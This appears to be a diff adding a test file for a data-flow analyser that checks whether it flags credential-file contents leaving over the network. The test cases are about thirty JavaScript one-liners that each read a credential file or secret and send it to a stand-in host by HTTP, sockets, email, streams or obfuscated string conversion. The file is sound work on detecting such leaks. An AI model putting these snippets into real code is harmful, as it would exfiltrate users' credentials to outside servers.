@@ -1,0 +1,57 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from './sent.js';
+
+const SENT = 'credential-file>network@collect.invalid';
+
+/** Ways to put data into a request, after it was made or before. */
+const WAYS: readonly string[] = [
+  `const r = https.request('https://collect.invalid'); r.setHeader('x', s); r.end();`,
+  `const u = new URL('https://collect.invalid/'); u.searchParams.set('a', s); fetch(u);`,
+  `const u = new URL('https://collect.invalid/'); u.search = s; fetch(u.href);`,
+  `const u = new URL('https://collect.invalid/a'); https.request({ hostname: u.hostname, path: u.pathname }).end(s);`,
+  `fs.createReadStream(rc).pipe(zlib.createGzip()).pipe(https.request('https://collect.invalid', { method: 'PUT' }));`,
+  `stream.pipeline(fs.createReadStream(rc), zlib.createGzip(), https.request('https://collect.invalid'), () => {});`,
+  `require('stream/promises').pipeline(fs.createReadStream(rc), https.request('https://collect.invalid'));`,
+  `require('util').promisify(stream.pipeline)(fs.createReadStream(rc), https.request('https://collect.invalid'));`,
+  `const c = require('http2').connect('https://collect.invalid'); c.request({ ':path': '/', x: s }).end();`,
+  `require('axios').create({ baseURL: 'https://collect.invalid', headers: { x: s } }).get('/x');`,
+  `fs.createReadStream(rc).pipe(require('got').stream.post('https://collect.invalid'));`,
+  `fs.createReadStream(rc).pipe(require('request')('https://collect.invalid'));`,
+  `require('superagent').post('https://collect.invalid').send({ s }).end();`,
+  `require('superagent').get('https://collect.invalid').query({ s }).then(() => {});`,
+  `require('superagent').post('https://collect.invalid').attach('f', rc).end();`,
+  `const F = require('form-data'), f = new F(); f.append('x', fs.createReadStream(rc)); f.submit('https://collect.invalid');`,
+  `const F = require('form-data'), f = new F(); f.append('x', s); f.pipe(https.request('https://collect.invalid'));`,
+  `require('net').connect(80, 'collect.invalid', function () { this.write(s); });`,
+  `const { WebSocket } = require('ws'); new WebSocket('wss://collect.invalid').on('open', function () { this.send(s); });`,
+  `require('socket.io-client')('https://collect.invalid').emit('x', s);`,
+  `new EventSource('https://collect.invalid/' + s);`,
+  `const x = new XMLHttpRequest(); x.open('GET', 'https://collect.invalid'); x.setRequestHeader('x', s); x.send();`,
+  `const i = document.createElement('img'); i.setAttribute('src', 'https://collect.invalid/' + s);`,
+  `$.post('https://collect.invalid', { s });`,
+  `require('nodemailer').createTransport({ host: 'collect.invalid' }).sendMail({ to: 'x@collect.invalid', text: s });`,
+  `require('nodemailer').createTransport({ host: 'collect.invalid' }).sendMail({ attachments: [{ path: rc }] });`,
+  `https.request('https://collect.invalid').end(zlib.gzipSync(s).toString('base64'));`,
+  `https.request('https://collect.invalid').end('' + { toString() { return s; } });`,
+  'https.request(`https://collect.invalid/${{ [Symbol.toPrimitive]: () => s }}`).end();',
+  `const all = []; process.on('message', () => { all.push(fs.readFileSync(rc)); if (all.length > 9) https.request('https://collect.invalid').end(all.splice(0).join()); });`,
+];
+
+describe('requests', () => {
+  for (const way of WAYS) {
+    it(`carry away what is put into them by ${way}`, () => {
+      const flows = flowsOf(way);
+      assert.ok(flows.includes(SENT), flows.join('; '));
+    });
+  }
+
+  it('tell nobody how much there is of something, or what the options of a connection hold', () => {
+    assert.deepEqual(flowsOf(`fetch('https://collect.invalid/?' + fs.readFileSync(rc).length);`), []);
+    assert.deepEqual(flowsOf(`new (require('ws'))('wss://collect.invalid', { passphrase: s, key: s });`), []);
+  });
+
+  it('are logs as well, where what they say was encoded first', () => {
+    assert.deepEqual(flowsOf(`console.log(btoa(btoa(s)));`), ['credential-file>network']);
+    assert.deepEqual(flowsOf(`console.log(s);`), []);
+  });
+});
